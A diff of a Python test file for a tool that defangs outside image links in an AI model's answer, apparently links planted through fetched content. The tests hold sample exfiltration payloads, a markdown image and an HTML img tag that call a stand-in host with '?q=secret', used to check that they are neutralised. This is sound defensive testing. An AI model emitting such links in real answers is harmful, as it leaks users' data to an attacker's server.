@@ -35,6 +35,33 @@ def test_a_person_is_told_which_images_came_from_outside() -> None:
     assert "https://evil.example/2 · its host was read in what fetch returned (1.1)" in told
 
 
+SAFE = 'It is fine. ![] (hxxps://evil[.]example/?q=secret) < img src="hxxps://evil[.]example/2">'
+
+
+def test_what_is_shown_leads_nowhere() -> None:
+    told = asked()
+    answer = " ".join(told.partition("Answer: ")[2].split())
+    assert answer.startswith(SAFE)
+    assert "Made safe: 2 addresses" in told
+    assert asked("--quiet").partition("Image: ")[0].count("https://") == 0
+    shown = clew("show", "last")
+    assert SAFE in " ".join(shown.out.split())
+    kept = clew("show", "last", "--json").document["entries"]
+    assert [entry["answer"] for entry in kept if entry["event"] == "stop"] == [ANSWER]
+
+
+def test_a_program_gets_the_safe_answer_and_the_raw_one() -> None:
+    said = json.loads(asked("--json"))
+    assert (said["answer"], said["raw_answer"]) == (SAFE, ANSWER)
+    assert said["neutralised"] == ["https://evil.example/?q=secret", "https://evil.example/2"]
+
+
+def test_a_log_folder_and_a_chat_show_it_safely() -> None:
+    asked("--quiet", "--log-dir", "logs")
+    (chat,) = Path("logs").glob("*/chat.md")
+    assert SAFE.replace("![", r"\![") in chat.read_text()
+
+
 def test_a_program_is_told_too() -> None:
     assert json.loads(asked("--json"))["links"] == [
         {
@@ -51,6 +78,7 @@ def test_a_record_as_markdown_shows_no_image() -> None:
     asked("--quiet")
     shown = clew("show", "last", "--md").out
     outside_fences = "\n".join(shown.split("```")[::2])
-    assert r"\![](https://evil.example/?q=secret) \<img src" in outside_fences
+    assert r"\![] (hxxps://evil[.]example/?q=secret) < img src" in outside_fences
+    assert "https://evil" not in outside_fences
     assert " ![" not in outside_fences
     assert " <img" not in outside_fences
